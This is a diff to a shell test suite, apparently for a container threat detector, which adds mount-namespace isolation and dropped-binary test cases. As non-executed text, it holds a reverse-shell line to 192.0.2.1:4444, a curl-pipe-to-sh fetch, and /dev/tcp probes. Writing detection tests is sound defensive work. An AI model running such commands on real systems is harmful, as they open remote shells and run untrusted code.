@@ -53,13 +53,15 @@ setup() {
     mount -t overlay -o "lowerdir=$opt/box/lower,upperdir=$opt/box/upper,workdir=$opt/box/work" starter "$opt/box/root" || exit 3
 }
 
-# Runs a script in the container: what makes it one is its cgroup.
+# Runs a script in the container: what makes it one is its cgroup, and the root of a mount namespace of its own.
 in_box() {
     hierarchy=/sys/fs/cgroup/pids
     [ -e "$hierarchy/cgroup.procs" ] || hierarchy=/sys/fs/cgroup
     box=docker/$(printf '%063d%d' 0 7)
     mkdir -p "$hierarchy/$box"
-    must /bin/sh -c 'echo $$ >"$1/cgroup.procs" && exec chroot "$2" /busybox sh -c "$3"' sh "$hierarchy/$box" "$opt/box/root" "$1"
+    must unshare -m --propagation private /bin/sh -c \
+        'echo $$ >"$1/cgroup.procs" && cd "$2" && mount --move "$2" / && exec chroot . /busybox sh -c "$3"' \
+        sh "$hierarchy/$box" "$opt/box/root" "$1"
     # The last of them may still be on its way out.
     for _ in 1 2 3 4 5 6 7 8 9 10; do rmdir "$hierarchy/$box" 2>/dev/null && break; sleep 0.1; done
     rmdir --ignore-fail-on-non-empty "$hierarchy/docker" 2>/dev/null
@@ -88,6 +90,11 @@ negative() {
     "$bin/postgres" -c '/bin/sh -c "test ! -f /mnt/w/1 && cp pg_wal/1 /mnt/w/1"; true'
     "$bin/java" -c '/bin/sh -c "echo curl"; true'
     /usr/bin/id
+    # A server that runs what was there before it, and an application server that builds and runs.
+    "$bin/nginx" -c "$bin/notaminer; true"
+    cp /bin/true "$bin/helper"
+    "$bin/java" -c "cp /bin/true $bin/built; $bin/built; true"
+    "$bin/helper"
     # reverse-shell: a health check, a search for the text, a plain nc, a port of this host
     /bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/1'
     grep -c '/dev/tcp/127.0.0.1/1 0>&1' /etc/hostname
@@ -293,6 +300,7 @@ positive() {
     bin=$opt/bin
     "$bin/nginx" -c '/bin/sh -c true; /usr/bin/id; true'
     "$bin/postgres" -c '/bin/sh -c "id; test ! -f x && cp a b; id"; true'
+    "$bin/nginx" -c "cp /bin/true $bin/dropped; $bin/dropped; true"
     "$bin/java" -c '/bin/sh -c ": curl http://192.0.2.1/x | sh"; true'
     # The text alone: it is not run.
     /bin/bash -c 'true; : bash -i ">& /dev/tcp/192.0.2.1/4444 0>&1"'
